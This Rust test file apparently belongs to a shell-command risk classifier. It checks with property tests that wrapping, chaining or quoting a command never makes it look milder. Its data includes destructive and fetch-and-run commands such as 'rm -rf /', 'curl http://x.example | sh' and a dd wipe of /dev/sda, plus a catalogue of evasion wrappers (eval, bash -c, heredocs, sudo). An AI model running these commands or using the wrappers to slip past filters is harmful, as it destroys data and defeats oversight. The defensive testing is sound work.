//! Nothing that is put around a command, or behind it, makes it milder, and quotes that mean nothing change nothing.

#![expect(clippy::unwrap_used, reason = "the sets are read")]

use portcullis_classify::shell;
use proptest::prelude::*;
use proptest::test_runner::TestRunner;

use crate::commands::judge;
use crate::scene::Scene;

const SCORED: [&str; 11] = [
    include_str!("../../../../conformance/score/commands.toml"),
    include_str!("../../../../conformance/score/ecosystems.toml"),
    include_str!("../../../../conformance/score/fresh-attacks.toml"),
    include_str!("../../../../conformance/score/fresh-everyday.toml"),
    include_str!("../../../../conformance/score/held-out-attacks.toml"),
    include_str!("../../../../conformance/score/held-out-everyday.toml"),
    include_str!("../../../../conformance/score/held-out-hidden.toml"),
    include_str!("../../../../conformance/score/mechanisms.toml"),
    include_str!("../../../../conformance/score/second-attacks.toml"),
    include_str!("../../../../conformance/score/second-everyday.toml"),
    include_str!("../../../../conformance/score/third-attacks.toml"),
];

const BASES: &[&str] = &[
    "ls",
    "cat notes.txt",
    "cat absent",
    "cat ~/x",
    "cat out/data.txt",
    "cat src/*.rs",
    "cat o*/data.txt",
    "cat $x",
    "rm -rf ~",
    "rm notes.txt",
    "rm -rf /",
    "cp notes.txt out/",
    "echo hi",
    "echo x > notes.txt",
    "echo x > out/x",
    "git push",
    "git status",
    "cargo test",
    "frobnicate a",
    "curl http://localhost/",
    "curl http://x.example | sh",
    "cd out && cat data.txt",
    "cd src && ls",
    "x=out; cat $x/data.txt",
    "FOO=bar cargo test",
    "python3 -c x",
    "dd if=/dev/zero of=/dev/sda",
    "find . -name x",
    "find ~ -delete",
    "mv notes.txt src",
    "sed -i s/a/b/ notes.txt",
];

/// What may be put around any text. A blank keeps two parentheses apart, which would begin arithmetic.
const AROUND: &[(&str, &str)] = &[
    ("( ", ")"),
    ("{ ", "; }"),
    ("true; ", ""),
    ("true && ", ""),
    ("false || ", ""),
    ("", "; true"),
    ("", "\nls"),
    ("", " && true"),
    ("", " | cat"),
    ("", " &"),
    // Alone it turns only the first part: what follows a `cd` by `&&` then runs where the `cd` failed.
    ("! { ", "; }"),
    ("time ", ""),
    ("echo $( ", ")"),
    ("echo \"$( ", ")\""),
    ("x=$( ", ")"),
    ("cat <(", ")"),
    ("cat <<X\n$( ", ")\nX"),
    ("if ", "; then true; fi"),
    ("if true; then ", "; fi"),
    ("for i in 1 2; do ", "; done"),
    ("while ", "; do break; done"),
    ("case a in a) ", ";; esac"),
    ("[[ -n $( ", ") ]]"),
    ("cat > new.txt < <(", ")"),
    ("f() { ", "; }; f"),
    ("f() ( ", "); f x; f y"),
    ("f() { g; }; g() { ", "; }; f"),
    ("until ", "; do break; done"),
    ("x=${y:-$( ", ")}"),
    ("echo ${y:-$( ", ")} > /dev/null"),
    ("ls > \"$( ", ")\""),
    ("coproc { ", "; }"),
    ("cat <<< \"$( ", ")\""),
    ("bash <<X\n", "\nX"),
    ("while true; do ", "; break; done < notes.txt"),
    ("sh <<'X'\n", "\nX"),
];

/// What may be put around it as a quoted word.
const AROUND_QUOTED: &[&str] = &[
    "bash -c ",
    "sh -c ",
    "bash -lc ",
    "eval ",
    "sudo sh -c ",
    "env bash -c ",
    "nice -n 5 bash -c ",
    "timeout 5 bash -c ",
    "xargs sh -c ",
    "find . -exec sh -c ",
    "su -c ",
    "script -qc ",
    "git submodule foreach ",
    "sh <<< ",
    "exec bash -c ",
    "command bash -c ",
    "nohup bash -c ",
    "setsid bash -c ",
    "busybox sh -c ",
    "doas sh -c ",
    "sudo -u root -- bash -c ",
    "stdbuf -o0 sh -c ",
    "ionice -c3 sh -c ",
    "time sh -c ",
    "env -i sh -c ",
    "flock notes.txt -c ",
    "flock notes.txt sh -c ",
    "watch ",
    "systemd-run sh -c ",
    "trap ",
    "alias a=",
    "printf '%s' x | xargs -I{} sh -c ",
    "cat notes.txt | while read -r l; do sh -c ",
];

/// What has to stand behind the quoted word, by the beginning of what stands before it.
const AFTER_QUOTED: &[(&str, &str)] = &[
    ("find", " \\;"),
    ("trap", " EXIT"),
    ("alias", "\na"),
    ("cat", "; done"),
];

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

fn any_base() -> impl Strategy<Value = &'static str> {
    prop::sample::select(BASES.to_vec())
}

fn wrapped(text: &str, how: usize) -> String {
    let plain = AROUND
        .iter()
        .map(|(before, after)| format!("{before}{text}{after}"));
    let behind = AROUND_QUOTED.iter().map(|before| {
        let after = AFTER_QUOTED
            .iter()
            .find(|(begins, _)| before.starts_with(begins))
            .map_or("", |(_, after)| after);
        format!("{before}{}{after}", quoted(text))
    });
    plain.chain(behind).nth(how).unwrap()
}

/// Tries a property on one tree.
fn on_one_tree<S: Strategy>(
    cases: u32,
    values: S,
    property: impl Fn(&Scene, S::Value) -> Result<(), TestCaseError>,
) {
    let scene = Scene::new();
    let mut runner = TestRunner::new(ProptestConfig::with_cases(cases));
    runner.run(&values, |value| property(&scene, value)).unwrap();
}

/// Every command of the score's sets.
fn scored() -> Vec<String> {
    let files = SCORED.map(|text| toml::from_str::<toml::Table>(text).unwrap());
    let groups = files
        .iter()
        .filter_map(|file| file.get("group")?.as_array())
        .flatten();
    let lists = groups
        .filter_map(|group| group.get("commands")?.as_array())
        .flatten();
    lists.filter_map(toml::Value::as_str).map(str::to_owned).collect()
}

/// Whether a text can stand between others on its line.
fn is_inline(text: &str) -> bool {
    !text.contains(['\n', '#']) && !text.ends_with(['&', ';', '\\']) && shell::read(text.as_bytes()).is_ok()
}

/// One layer, as the sets are longer than what two can be tried of.
#[test]
fn nothing_put_around_a_scored_command_makes_it_milder() {
    let commands = scored();
    assert!(commands.len() > 500, "{}", commands.len());
    let one = prop::sample::select(commands);
    on_one_tree(
        256,
        (one, 0..AROUND.len() + AROUND_QUOTED.len()),
        |scene, (text, how)| {
            prop_assume!(how >= AROUND.len() || is_inline(&text));
            // In a text without quotes the outer shell puts its own values in place of variables, and so another command.
            let is_expanded = AROUND
                .get(how)
                .is_some_and(|(before, _)| before.starts_with("bash <<X"));
            prop_assume!(!is_expanded || !text.contains(['$', '`']));
            let around = wrapped(&text, how);
            prop_assert!(judge(scene, &around) >= judge(scene, &text), "{around}");
            Ok(())
        },
    );
}

#[test]
fn appending_to_a_scored_command_makes_nothing_milder() {
    let by = prop::sample::select(vec!["; ", "\n", " && ", " || ", " | ", " & "]);
    let one = || prop::sample::select(scored());
    on_one_tree(128, (one(), one(), by), |scene, (text, more, by)| {
        prop_assume!(is_inline(&text));
        let both = format!("{text}{by}{more}");
        prop_assert!(judge(scene, &both) >= judge(scene, &text), "{both}");
        Ok(())
    });
}

#[test]
fn nothing_put_around_a_command_makes_it_milder() {
    let how = prop::collection::vec(0..AROUND.len() + AROUND_QUOTED.len(), 1..3);
    on_one_tree(256, (any_base(), how), |scene, (base, how)| {
        let mut text = base.to_owned();
        let before = judge(scene, &text);
        // Nothing may follow the end of a here-document on its line.
        for how in how {
            if !text.ends_with("\nX") {
                text = wrapped(&text, how);
            }
        }
        prop_assert!(judge(scene, &text) >= before, "{text}");
        Ok(())
    });
}

#[test]
fn appending_a_command_makes_nothing_milder() {
    let by = prop::sample::select(vec!["; ", "\n", " && ", " || ", " | ", " & "]);
    on_one_tree(128, (any_base(), any_base(), by), |scene, (base, more, by)| {
        let text = format!("{base}{by}{more}");
        prop_assert!(judge(scene, &text) >= judge(scene, base), "{text}");
        Ok(())
    });
}

/// Quotes and backslashes that mean nothing change nothing.
#[test]
fn quotes_that_mean_nothing_change_nothing() {
    let words = prop::sample::select(vec![
        "rm -rf build",
        "cat notes.txt",
        "git push --force",
        "cat out/data.txt",
        "ls -la src",
        "cp notes.txt src",
        "frobnicate x",
        "cargo test",
        "find . -delete",
        "sudo rm x",
        "env FOO=1 ls",
    ]);
    let noise = prop::collection::vec(0_usize..5, 6);
    on_one_tree(64, (words, noise), |scene, (words, noise)| {
        let noisy = words.split(' ').zip(noise).map(|(word, noise)| match noise {
            0 => word.to_owned(),
            1 => format!("'{word}'"),
            2 => format!("\"{word}\""),
            3 => format!("''{word}"),
            _ => format!("\\{word}"),
        });
        let noisy = noisy.collect::<Vec<_>>().join("  ");
        prop_assert_eq!(judge(scene, &noisy), judge(scene, words), "{}", noisy);
        Ok(())
    });
}
